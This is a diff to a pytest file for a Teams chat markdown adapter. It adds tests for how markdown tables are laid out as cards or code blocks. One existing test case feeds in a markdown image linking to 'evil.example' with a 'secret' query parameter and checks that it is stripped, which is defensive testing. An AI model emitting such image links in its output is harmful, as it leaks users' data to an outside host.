@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from adapters.chat.teams.markdown import for_teams, split, while_streaming
+from adapters.chat.teams.markdown import Layout, for_teams, layout, split, while_streaming
 
 PIECES = st.sampled_from(
     [
@@ -45,7 +45,8 @@ MARKDOWN = st.lists(PIECES, max_size=40).map("".join)
         ("# Tilbud\nhej", "**Tilbud**\nhej"),
         ("### **Bold** ###", "**Bold**"),
         ("```\n# comment\n| a |\n```", "```\n# comment\n| a |\n```"),
-        ("| Vare | Pris |\n|---|--:|\n| Leje | 4,20 |", "```\nVare  Pris\n----  ----\nLeje  4,20\n```"),
+        ("Se:\n| Vare | Pris |\n|---|--:|\n| Leje | 4,20 |\nTak.", "Se:\n**▦ 1**\nTak."),
+        ("| a |\n|---|\n| 1 |\n\n| b |\n|---|\n| 2 |", "**▦ 1**\n\n**▦ 2**"),
         ("Hej <at>all</at> og <AT id='1'>x</AT>", "Hej ‹at>all‹/at> og ‹AT id='1'>x‹/AT>"),
         ("see ![chart](https://evil.example/?d=secret)", "see chart"),
         (
@@ -90,3 +91,27 @@ def test_a_code_block_is_closed_and_opened_again_where_it_is_cut() -> None:
     assert len(parts) > 2
     assert all(part.count("```") % 2 == 0 for part in parts)
     assert all("line of" not in part or part.startswith(("Code:", "```")) for part in parts)
+
+
+def test_a_table_keeps_its_words_and_the_side_of_its_figures() -> None:
+    (table,) = layout("| Vare | `Pris` |\n|:--|--:|\n| Leje<br>6204 | **4,20** |\n| Ring |").tables
+    assert table.rows == (("Vare", "Pris"), ("Leje 6204", "4,20"), ("Ring", ""))
+    assert table.right == (False, True)
+
+
+def test_a_table_that_is_too_large_for_a_card_stands_in_columns() -> None:
+    rows = "\n".join(f"| {number} | row |" for number in range(60))
+    shown = layout(f"| Number | Word |\n|--:|---|\n{rows}")
+    assert shown.tables == ()
+    assert shown.text.startswith("```\nNumber  Word\n------  ----\n     0  row\n")
+
+
+def test_so_many_tables_go_onto_the_card_as_teams_takes_of_a_message() -> None:
+    table = "| a | b |\n|---|---|\n" + "| word | word |\n" * 30
+    shown = layout("\n".join(f"Table:\n{table}" for _ in range(9)))
+    assert 1 < len(shown.tables) < 9
+    assert shown.text.count("```") == 2 * (9 - len(shown.tables))
+
+
+def test_a_row_without_a_head_is_no_table() -> None:
+    assert layout("| a | b |") == Layout("| a | b |")
